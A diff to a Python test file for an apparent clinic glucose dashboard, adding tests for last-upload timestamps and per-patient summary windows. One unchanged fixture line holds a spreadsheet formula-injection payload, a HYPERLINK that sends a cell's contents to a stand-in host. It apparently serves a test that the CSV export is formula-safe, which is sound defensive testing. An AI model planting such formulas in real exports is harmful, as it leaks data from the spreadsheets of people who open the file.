@@ -29,6 +29,7 @@ from .test_dashboard_lake import login
 # 2026-01-21..02-03, the previous one 2026-01-07..01-20.
 FIRST_DAY = dt.date(2026, 1, 7)
 DAYS = 28
+INGESTED_AT = dt.datetime(2026, 2, 5, tzinfo=dt.UTC)  # when the lake's one batch was received
 HOSTILE_LABEL = '=HYPERLINK("http://x.example/?"&A1,"open")'
 
 
@@ -147,7 +148,7 @@ def clinic(tmp_path_factory):
     settings = Settings(
         lake=LakeSettings(root=str(root)), ingest=IngestSettings(pseudonym_secret=SECRET)
     )
-    ingest_records(settings, _records())
+    ingest_records(settings, _records(), now=lambda: INGESTED_AT)
     assert run_pipeline(settings).status == "published"
     keys = {p: patient_key(SECRET.encode(), p) for p in ("LOW", "GOOD", "DROP", "GAP", "PART")}
     store = open_access(settings.lake)
@@ -198,8 +199,7 @@ def test_triage_flags_bars_and_last_upload_on_a_lake(clinic):
     assert low["summary"]["pct_below_54"] == pytest.approx(100.0 * 8 / 96, abs=0.1)
     for row in rows.values():
         assert sum(r["pct"] for r in row["ranges"]) == pytest.approx(100.0, abs=0.01)
-        uploaded = dt.datetime.fromisoformat(row["last_upload_at"])
-        assert uploaded.tzinfo is not None
+        assert dt.datetime.fromisoformat(row["last_upload_at"]) == INGESTED_AT
     assert rows[keys["GAP"]]["summary"]["wear_pct"] == pytest.approx(100 * 4 / 14, abs=0.5)
     part = rows[keys["PART"]]["summary"]  # its newest day stops at 10:00: not counted
     assert (part["period_end"], part["partial_day"]) == ("2026-02-03", "2026-02-04")
@@ -288,3 +288,59 @@ def test_csv_export_has_the_rows_is_authorised_audited_and_formula_safe(clinic):
         ("admin", "/triage.csv?flag=any&sort=tir"),
         ("clinician", "/triage.csv"),
     ]
+
+
+def test_the_one_pass_equals_period_results_patient_by_patient(clinic):
+    """The clinic pass computes every patient's windows at once; each row must be what
+    published.period_results gives for that patient and window alone."""
+    from glucosestream.dashboard.clinic_windows import patient_windows, window_readings
+    from glucosestream.dashboard.rolling_summary import summary_rows
+    from glucosestream.published import PublishedLake, period_results
+
+    settings, keys = clinic
+    run = PublishedLake(settings).current()
+    now = dt.datetime(2026, 2, 5, tzinfo=dt.UTC)
+    rows = summary_rows(run, keys.values(), now=now)
+    assert set(rows) == set(keys.values())
+    for key in keys.values():
+        windows = patient_windows(run, key)
+        for window, (start, end) in windows.spans().items():
+            alone = period_results(
+                run, key, start, end, readings=window_readings(run, key), now=now
+            ).metrics.to_pylist()[0]
+            row = rows[key][window]
+            assert (row["period_start"], row["period_end"]) == (start, end)
+            for column in ("readings", "days", "active_pct", "mean_mg_dl", "pct_70_180", "gri"):
+                want = alone[column]
+                got = row[column]
+                assert got == (want if want is None else pytest.approx(want, rel=1e-9)), column
+
+
+def test_last_upload_is_the_newest_batch_received_even_before_a_run(clinic):
+    settings, keys = clinic
+    at = INGESTED_AT + dt.timedelta(hours=9, minutes=30)
+    open_access(settings.lake).tokens.add_token(
+        hash_token("t_uploader_good"),
+        "uploader",
+        label="u",
+        created_at=at - dt.timedelta(days=1),
+        patient_keys=[keys["GOOD"]],
+    )
+    reading = {
+        "patient_id": "GOOD",
+        "time": (at - dt.timedelta(minutes=5)).isoformat(),
+        "glucose_mg_dl": 118,
+        "tz": "UTC",
+    }
+    with TestClient(create_app(settings, clock=lambda: at)) as client:
+        before = {r["patient_key"]: r for r in _triage(login(client, "t_admin"))}
+        posted = client.post(
+            "/v1/readings",
+            json={"readings": [reading]},
+            headers={"Authorization": "Bearer t_uploader_good"},
+        )
+        assert posted.status_code == 200, posted.text
+        after = {r["patient_key"]: r for r in _triage(client)}
+    assert dt.datetime.fromisoformat(before[keys["GOOD"]]["last_upload_at"]) == INGESTED_AT
+    assert dt.datetime.fromisoformat(after[keys["GOOD"]]["last_upload_at"]) == at
+    assert after[keys["LOW"]]["last_upload_at"] == before[keys["LOW"]]["last_upload_at"]
